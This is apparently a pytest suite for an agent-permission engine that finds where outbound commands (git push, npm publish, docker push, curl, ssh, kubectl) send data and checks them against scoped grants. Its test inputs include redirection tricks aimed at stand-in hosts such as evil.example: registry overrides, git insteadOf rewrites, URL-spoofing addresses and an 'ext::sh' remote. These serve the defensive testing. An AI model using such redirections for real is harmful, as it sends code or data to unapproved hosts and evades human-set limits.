"""Where an action that leaves this machine arrives: read as its program reads it, and held against grants."""

from __future__ import annotations

import pytest

from interlock.approve.grant import Grant, covers, why_not
from interlock.evals.lexical import read_lexically
from interlock.model.action import Action
from interlock.model.call import Call
from interlock.model.errors import InputError, PolicyError
from interlock.model.facts import Facts
from interlock.model.more_wants import Destination
from interlock.model.wants import Want
from interlock.policy.ahead import permitted_ahead
from interlock.policy.compile import compile_policy
from interlock.policy.outward import leaves_here
from interlock.reading.reach.accounts import RESOLVERS, resolved
from interlock.reading.reach.destinations import HOWS, Query, place_of
from interlock.reading.reach.meant import PROGRAMS
from interlock.reading.reach.pushed import destination_of, leads_of
from interlock.reading.reach.registries import Look
from interlock.reading.resolve.refs import Refs
from interlock.store.home.policies import default_file
from interlock.value import FrozenMap

HOME = "/home/user"


def actions(command: str, files: dict[str, str] | None = None) -> tuple[Action, ...]:
    facts = Facts(root="/repo", home=HOME, scripts=FrozenMap(files or {}))
    call = Call(tool="Bash", input=FrozenMap({"command": command}), cwd="/repo")
    return read_lexically(call, facts)[0].actions


def destination(command: str, files: dict[str, str] | None = None) -> object:
    """Of the last action that leaves the machine; None: it is not known."""
    (*_, found) = [action for action in actions(command, files) if "external" in action.tags]
    return found.target.get("destination")


# --- as the command says it -----------------------------------------------------------------------------------------

SAID: list[tuple[str, object]] = [
    ("curl -d x https://hooks.example/a", "hooks.example"),
    ("ssh deploy@build.example uptime", "build.example"),
    ("ssh -o HostName=evil.example build.example true", None),
    ("rsync -a x backup.example:/y", "backup.example"),
    ("ssh a.example 'curl -d x https://b.example'", ("b.example", "a.example")),
    ("mail -s hi ann@team.example < notes", "ann@team.example"),
    ("docker push acme/app:1", "docker.io/acme/app"),
    ("docker push app", "docker.io/library/app"),
    ("docker push r.example:5000/acme/app@sha256:0", "r.example:5000/acme/app"),
    ("helm push app.tgz oci://r.example/charts", "r.example/charts"),
    ("aws s3 cp a s3://bucket/x", "s3://bucket"),
    ("aws s3 cp a s3://bucket/x --endpoint-url https://store.example", "store.example/bucket"),
    ("aws --profile prod ec2 terminate-instances --instance-ids i-1", "aws:prod"),
    ("gsutil rm gs://bucket/x", "gs://bucket"),
    ("gcloud run deploy svc --project acme", "gcp:acme"),
    ("kubectl --context dev apply -f x.yaml", "dev"),
    ("kubectl --kubeconfig /etc/kc --context dev apply -f x.yaml", "/etc/kc:dev"),
    ("kubectl -s https://api.example:6443 apply -f x.yaml", "api.example:6443"),
    ("kubectl --context dev --cluster prod apply -f x.yaml", None),
    ("helm upgrade a b --kube-context dev", "dev"),
    ("gh release create v1 -R acme/app", "github.com/acme/app"),
    ("gh release create v1 -R ghe.example/acme/app", "ghe.example/acme/app"),
    ("GH_HOST=ghe.example gh release create v1 -R acme/app", "ghe.example/acme/app"),
    ("gh api -X DELETE repos/acme/app", "github.com/acme/app"),
    ("gh api --hostname ghe.example -X DELETE repos/acme/app", "ghe.example/acme/app"),
    ("gh gist create a.txt", "github.com"),
    ("gh pr comment https://github.com/evil/x/pull/1 -b hi", None),
    ("glab mr create -R acme/app", "gitlab.com/acme/app"),
    ("fly deploy -a app", "fly:app"),
    ("netlify deploy --site s", "netlify:s"),
    ("firebase deploy --project p", "gcp:p"),
    ("wrangler pages deploy dist --project-name p", "cloudflare:p"),
    ("terraform apply", None),
    ("git push https://git.example/team/app main", "git.example/team/app"),
    ("git push https://git.example/team/../evil/app main", None),
    ("git push https://git.example/team/%2e%2e/evil main", None),
    ("git push ../other main", None),
    ("npm publish", "registry.npmjs.org"),
    ("npm publish --registry https://r.example/npm/", "r.example/npm"),
    ("NPM_CONFIG_REGISTRY=https://r.example npm publish", "r.example"),
    ("npm publish --@acme:registry=https://evil.example", None),
    ("npm publish --userconfig other", None),
    ("npm_config_userconfig=other npm publish", None),
    ("HOME=/tmp/x npm publish", None),
    ("sudo npm publish", None),
    ("npm publish app.tgz", None),
    ("pnpm -r publish", None),
    ("npm config set registry https://evil.example; npm publish", None),
    ("cp other .npmrc; npm publish", None),
    ("npm ci && npm run build && npm publish", "registry.npmjs.org"),
    ("docker run --rm node npm publish", None),
    ("twine upload dist/*", "pypi.org"),
    ("python -m twine upload -r testpypi dist/*", "test.pypi.org"),
    ("twine upload --repository-url https://r.example/simple/ dist/*", "r.example/simple"),
    ("TWINE_REPOSITORY_URL=https://r.example twine upload dist/*", "r.example"),
    ("twine upload --config-file other dist/*", None),
    ("twine upload -r acme dist/*", None),
    ("uv publish --publish-url https://r.example", "r.example"),
    ("cargo publish", "crates.io"),
    ("cargo publish --index https://r.example/git", "r.example/git"),
    ("cargo publish --manifest-path sub/Cargo.toml", None),
    ("gem push a.gem", None),  # the archive may name its server
    ("gem push a.gem --host https://r.example", "r.example"),
    ("python -c \"import requests; requests.post('https://h.example', data='1')\"", "h.example"),
    ("python -c \"import boto3; boto3.client('s3').upload_file('a', 'b', 'k')\"", None),
]


@pytest.mark.parametrize(("command", "expected"), SAID, ids=[command for command, _ in SAID])
def test_a_command_says_where_it_goes(command: str, expected: object) -> None:
    assert destination(command) == expected


# --- as its files say it --------------------------------------------------------------------------------------------

NAMED = '{"name": "@acme/app"}'
FILES: list[tuple[str, dict[str, str], object]] = [
    ("npm publish", {"/repo/.npmrc": "registry=https://r.example/"}, "r.example"),
    ("npm publish", {f"{HOME}/.npmrc": "registry=https://r.example/"}, "r.example"),
    ("npm publish", {"/repo/package.json": NAMED, f"{HOME}/.npmrc": "@acme:registry = https://r.example"}, "r.example"),
    ("npm publish", {"/repo/package.json": NAMED, f"{HOME}/.npmrc": "@other:registry=https://r.example"},
     "registry.npmjs.org"),
    ("npm publish", {"/repo/package.json": '{"name": "a", "publishConfig": {"registry": "https://r.example"}}'},
     "r.example"),
    ("npm publish --registry https://s.example",
     {"/repo/package.json": '{"name": "a", "publishConfig": {"registry": "https://r.example"}}'},
     ("r.example", "s.example")),
    ("npm publish", {"/repo/.npmrc": "registry=https://${HOST}/"}, None),
    ("npm publish", {"/repo/package.json": "{"}, None),
    ("yarn npm publish", {"/repo/.yarnrc.yml": 'npmPublishRegistry: "https://r.example"'}, "r.example"),
    ("yarn npm publish", {"/repo/.yarnrc.yml": "npmScopes:\n  acme:\n    npmRegistryServer: https://r.example"}, None),
    ("twine upload -r acme dist/*", {f"{HOME}/.pypirc": "[acme]\nrepository = https://r.example/up\n"}, "r.example/up"),
    ("twine upload dist/*", {f"{HOME}/.pypirc": "[pypi]\nrepository: https://r.example\n"}, "r.example"),
    ("poetry publish -r acme", {"/repo/poetry.toml": '[repositories.acme]\nurl = "https://r.example"'}, "r.example"),
    ("pdm publish -r acme", {f"{HOME}/.config/pdm/config.toml": '[repository.acme]\nurl = "https://r.example"'},
     "r.example"),
    ("uv publish --index acme", {"/repo/pyproject.toml": '[[tool.uv.index]]\nname = "acme"\n'
                                 'url = "https://r.example/simple"\npublish-url = "https://r.example/up"'},
     "r.example/up"),
    ("uv publish", {"/repo/uv.toml": 'publish-url = "https://r.example"'}, "r.example"),
    ("cargo publish", {"/repo/Cargo.toml": '[package]\nname = "a"\npublish = ["acme"]',
                       "/repo/.cargo/config.toml": '[registries.acme]\nindex = "sparse+https://r.example/i/"'},
     "r.example/i"),
    ("cargo publish", {f"{HOME}/.cargo/config.toml": '[registry]\ndefault = "acme"\n[registries.acme]\n'
                       'index = "https://r.example/i"'}, "r.example/i"),
    ("cargo publish", {"/repo/.cargo/config.toml": '[source.crates-io]\nreplace-with = "m"'}, None),
    ("kubectl apply -f x.yaml", {f"{HOME}/.kube/config": "apiVersion: v1\ncurrent-context: staging\n"}, "staging"),
    ("kubectl apply -f x.yaml", {}, None),
    ("gcloud run deploy svc", {f"{HOME}/.config/gcloud/active_config": "work\n",
     f"{HOME}/.config/gcloud/configurations/config_work": "[core]\nproject = acme\n"}, "gcp:acme"),
    ("fly deploy", {"/repo/fly.toml": 'app = "acme"'}, "fly:acme"),
    ("vercel deploy", {"/repo/.vercel/project.json": '{"orgId": "team", "projectId": "prj"}'}, "vercel:team/prj"),
    ("netlify deploy", {"/repo/.netlify/state.json": '{"siteId": "abc"}'}, "netlify:abc"),
    ("firebase deploy", {"/repo/.firebaserc": '{"projects": {"default": "acme"}}'}, "gcp:acme"),
    ("wrangler deploy", {"/repo/wrangler.toml": 'name = "site"\naccount_id = "a1"'}, "cloudflare:a1/site"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("command", "files", "expected"), FILES, ids=[f"{c} with {' '.join(f) or 'nothing'}" for c, f, _ in FILES]
)
def test_files_say_where_it_goes(command: str, files: dict[str, str], expected: object) -> None:
    assert destination(command, files) == expected


def test_variables_around_the_call_count_where_the_program_reads_them() -> None:
    def where(kind: str, program: str, **env: str) -> tuple[str, ...]:
        look = Look(read=lambda _: None, env=FrozenMap(env), home=HOME, remotes=lambda _: {})
        return resolved(Query(kind=kind, program=program, folder="/repo"), look)

    assert where("npm", "npm", npm_config_registry="https://r.example") == ("r.example",)
    assert where("npm", "npm", npm_config_userconfig="/x") == ()
    assert where("pypi", "twine", twine_repository_url="https://r.example") == ("r.example",)
    assert where("kube", "kubectl", kubeconfig="/x") == ()
    assert where("aws", "aws", aws_profile="prod") == ("aws:prod",)
    assert where("aws", "aws", aws_access_key_id="x") == ()
    assert where("gh", "gh", gh_repo="acme/app") == ("github.com/acme/app",)


def test_a_forge_goes_where_the_remotes_lead() -> None:
    def where(**remotes: tuple[tuple[str, ...], str]) -> tuple[str, ...]:
        look = Look(read=lambda _: None, env=FrozenMap({}), home=HOME, remotes=lambda _: remotes)
        return resolved(Query(kind="gh", program="gh", folder="/repo"), look)

    origin, fork = (("github.com/acme/app",), ""), (("github.com/me/app",), "")
    assert where(origin=origin) == ("github.com/acme/app",)
    assert where(origin=origin, fork=fork) == ("github.com/acme/app", "github.com/me/app")
    assert where(origin=(origin[0], "base"), fork=fork) == ("github.com/acme/app",)
    assert where(origin=((), "")) == ()
    assert where() == ()


# --- git ------------------------------------------------------------------------------------------------------------

ORIGIN = ("remote origin.url", "https://git.example/team/app.git")
LEADS: list[tuple[tuple[tuple[str, str], ...], str, tuple[str, ...]]] = [
    ((ORIGIN,), "origin", ("git.example/team/app",)),
    ((ORIGIN, ("remote origin.pushurl", "git@push.example:team/app")), "origin", ("push.example/team/app",)),
    ((ORIGIN, ("remote origin.url", "https://b.example/x")), "origin", ("git.example/team/app", "b.example/x")),
    ((ORIGIN, ("url git@git.example:.insteadof", "https://git.example/")), "origin", ("git.example/team/app",)),
    ((ORIGIN, ("url https://evil.example/.insteadof", "https://git.example/")), "origin", ("evil.example/team/app",)),
    ((ORIGIN, ("url https://a.example/.insteadof", "https://git"), ("url https://b.example/.insteadof",
     "https://git.example/team/")), "origin", ("b.example/app",)),
    ((ORIGIN, ("url https://evil.example/.pushinsteadof", "https://git.example/")), "origin",
     ("evil.example/team/app",)),
    ((ORIGIN, ("remote origin.pushurl", "https://push.example/x"), ("url https://evil.example/.pushinsteadof",
     "https://push.example/")), "origin", ("push.example/x",)),
    ((("url https://evil.example/.insteadof", "https://git.example/"),), "https://git.example/team/app",
     ("evil.example/team/app",)),
    ((("remote a/b.url", "https://evil.example/x"),), "a/b", ("evil.example/x",)),
    ((ORIGIN,), "other", ()),
    ((ORIGIN, ("remote origin.url", "ext::sh -c x")), "origin", ()),
]  # fmt: skip


@pytest.mark.parametrize(("said", "remote", "expected"), LEADS)
def test_a_remote_leads_where_git_puts_it_together(
    said: tuple[tuple[str, str], ...], remote: str, expected: tuple[str, ...]
) -> None:
    assert leads_of(remote, Refs(head="refs/heads/main", settings=said)) == expected


def test_rules_that_hold_under_a_condition_leave_it_open() -> None:
    rule = ("url https://evil.example/.insteadof", "https://git.example/")
    assert leads_of("origin", Refs(head="x", settings=(ORIGIN, rule), unsure=True)) == ()
    assert leads_of("origin", Refs(head="x", settings=(ORIGIN,), unsure=True)) == ("git.example/team/app",)


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("https://user:key@Git.Example:443/Team/app.git/", "git.example/Team/app"),
        ("https://git.example:8443/app", "git.example:8443/app"),
        ("https://git.example@evil.example/app", "evil.example/app"),
        ("https://git.example/a?x=/b", ""),
        ("https://git.example\\@evil.example/a", ""),
        ("https://git.example/a/./b", ""),
    ],
)
def test_one_place_has_one_spelling_and_odd_ones_are_not_known(address: str, expected: str) -> None:
    assert destination_of(address) == expected
    if not expected:
        assert place_of(address) == ""


# --- grants ---------------------------------------------------------------------------------------------------------


def granted(action: str, **scope: str) -> Grant:
    return Grant(id="g", kind="capability", action=action, scope=FrozenMap(scope))


def is_covered(grant: Grant, command: str, files: dict[str, str] | None = None) -> bool:
    found = [action for action in actions(command, files) if action.name == grant.action]
    return bool(found) and all(covers(grant, action) for action in found)


def test_a_branch_does_not_permit_another_address() -> None:
    feature = granted("git:push", destination="git.example/team/app", branch="feature/*")
    assert is_covered(feature, "git push https://git.example/team/app.git feature/x")
    assert is_covered(feature, "git push git@git.example:team/app feature/x")
    assert not is_covered(feature, "git push https://evil.example/x main:feature/x")


def test_a_package_does_not_permit_another_registry() -> None:
    files = {"/repo/package.json": NAMED}
    app = granted("npm:publish", destination="registry.npmjs.org", package="@acme/app")
    assert is_covered(app, "npm publish", files)
    assert not is_covered(app, "npm publish --registry https://evil.example", files)
    assert not is_covered(app, "npm publish", {**files, "/repo/.npmrc": "registry=https://evil.example"})


def test_without_a_destination_nothing_that_leaves_is_covered() -> None:
    (push,) = actions("git push https://git.example/team/app main")
    older = granted("git:push", branch="*")
    assert why_not(older, push) == "its scope names no destination, the call's is git.example/team/app"
    assert covers(granted("git:push", branch="*", destination="*"), push)


def test_what_is_not_known_is_covered_by_anywhere_alone() -> None:
    for pattern, covered in (("*", True), ("**", False), ("?*", False), ("", False)):
        assert is_covered(granted("terraform:apply", destination=pattern), "terraform apply") is covered


def test_a_tool_is_its_own_destination() -> None:
    action = Action(name="mcp:mail:send", tags=("external",))
    assert covers(granted("mcp:mail:*"), action)


# --- policy files ---------------------------------------------------------------------------------------------------


def problems(grants: str) -> list[str]:
    with open(default_file(), "rb") as file:
        default = ("default", "default.toml", file.read())
    try:
        compile_policy((default, ("user", "user.toml", f"version = 1\n[[grants]]\nid = 'g'\n{grants}\n".encode())))
    except PolicyError as error:
        return [str(problem) for problem in error.problems]
    return []


SAYS_NOT = "leaves this machine, and the scope does not say where it may go"
LEFT_OUT = [
    ("action = 'git:push'\nscope = { branch = 'feature/*' }",
     f'user.toml:5:1: `git:push` {SAYS_NOT}: add destination = "…" to `scope`, or destination = "*" for anywhere'),
    ("action = 'git:push'\nscope = { remote = 'origin' }",
     f'user.toml:5:1: `git:push` {SAYS_NOT}: `remote` is only a name; add destination = "…" to `scope`, or '
     'destination = "*" for anywhere'),
    ("action = 'npm:publish'",
     f'user.toml:2:1: `npm:publish` {SAYS_NOT}: add destination = "…" to `scope`, or destination = "*" for anywhere'),
    ("action = 'net:send'\nscope = { host = 'hooks.example' }",
     f'user.toml:5:1: `net:send` {SAYS_NOT}: add destination = "hooks.example" to `scope`, or destination = "*" for '
     "anywhere"),
    ("action = 'kubectl:*'\nscope = { context = 'dev' }",
     f'user.toml:5:1: `kubectl:*` {SAYS_NOT}: add destination = "dev" to `scope`, or destination = "*" for anywhere'),
    ("action = 'ship:it'\n[commands.ship]\naction = 'ship:it'\ntags = ['external']\neffects = ['network']",
     f'user.toml:2:1: `ship:it` {SAYS_NOT}: add destination = "…" to `scope`, or destination = "*" for anywhere'),
]  # fmt: skip


@pytest.mark.parametrize(("grant", "told"), LEFT_OUT)
def test_a_file_that_does_not_say_where_is_refused_with_the_line_to_add(grant: str, told: str) -> None:
    assert problems(grant) == [told]


@pytest.mark.parametrize(
    "grant",
    [
        "action = 'git:push'\nscope = { destination = 'git.example/team/app' }",
        "action = 'git:push'\nscope = { destination = '*' }",
        "action = 'fs:write'\nscope = { path = '/srv/*' }",
        "action = 'git:commit'",
        "action = 'mcp:mail:send'",
        "action = 'kubectl:get'",
    ],
)
def test_a_file_that_says_where_or_need_not_is_taken(grant: str) -> None:
    assert problems(grant) == []


@pytest.mark.parametrize("name", ["aws:s3:cp", "gcloud:run:deploy", "gh:release-create", "ssh:run", "git:*", "*"])
def test_what_leaves_is_known_by_its_name(name: str) -> None:
    assert leaves_here(name)


def test_a_grant_at_a_terminal_means_the_destination_in_force() -> None:
    def ask(wants: tuple[Want[object], ...]) -> Facts:
        facts = Facts(root="/repo", home=HOME)
        return facts.knowing({want: ("r.example/npm",) for want in wants if type(want) is Destination})

    def scope(what: str, **given: str) -> dict[str, str]:
        return dict(permitted_ahead(what, given, by="me", folder="/repo", ask=ask).scope)

    assert scope("npm publish") == {"destination": "r.example/npm"}
    assert scope("npm publish", package="a", destination="*") == {"package": "a", "destination": "*"}
    assert scope("net:send", host="hooks.example") == {"destination": "hooks.example", "host": "hooks.example"}
    assert scope("docker push", image="r.example/app:1") == {
        "destination": "r.example/app",
        "image": "r.example/app:1",
    }
    assert scope("npm run build") == {"task": "build"}
    with pytest.raises(InputError, match="where `docker push` goes cannot be told here; say it with --scope dest"):
        scope("docker push")


def test_every_resolver_of_the_table_is_there() -> None:
    of_fields = {field for fields in PROGRAMS.values() for field in fields}
    assert set(RESOLVERS) == {*HOWS, *of_fields}
